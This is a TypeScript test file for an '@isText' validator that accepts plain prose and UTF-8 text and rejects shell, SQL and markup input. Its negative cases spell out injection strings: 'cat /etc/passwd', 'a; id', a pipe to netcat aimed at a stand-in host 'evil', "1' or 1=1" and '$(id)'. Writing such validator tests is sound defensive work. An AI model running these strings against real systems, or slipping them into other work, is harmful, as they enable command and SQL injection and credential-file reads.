import assert from 'node:assert/strict'
import { test } from 'node:test'
import { isText as factory } from './is-text.js'
import type { OperatorCompileContext } from './operator.js'

const isText = (kind: string) => factory(kind, {} as OperatorCompileContext)

const utf8 = (s: string): string => Buffer.from(s, 'utf8').toString('latin1')

test('@isText prose: words and sentence punctuation, never shell, SQL or markup syntax', () => {
  const prose = isText('prose')
  for (const s of [
    'echo in the mirror',
    "it's a well-known fact.",
    'JavaScript: The Good Parts',
    utf8('東京 の 天気'),
  ])
    assert.ok(prose(s), s)
  for (const s of [
    'ls',
    'ls -la',
    'cat /etc/passwd',
    'a; id',
    'x | nc evil 1',
    "1' or 1=1",
    '<b>hi</b>',
    '$(id) now',
  ])
    assert.equal(prose(s), null, s)
})

test('@isText utf8 and noPhpCall', () => {
  assert.ok(isText('utf8')(utf8('東京都の天気')))
  assert.equal(isText('utf8')('ascii only'), null)
  assert.equal(isText('utf8')('\xbcscript\xbe'), null) // lone continuation bytes: not UTF-8
  assert.equal(isText('utf8')(utf8('東京<script>')), null)
  assert.ok(isText('noPhpCall')('[docs](https://example.com/a);'))
  assert.equal(isText('noPhpCall')('$f(1);'), null)
  assert.equal(isText('noPhpCall')('no call here'), null)
  assert.throws(() => isText('words'))
})
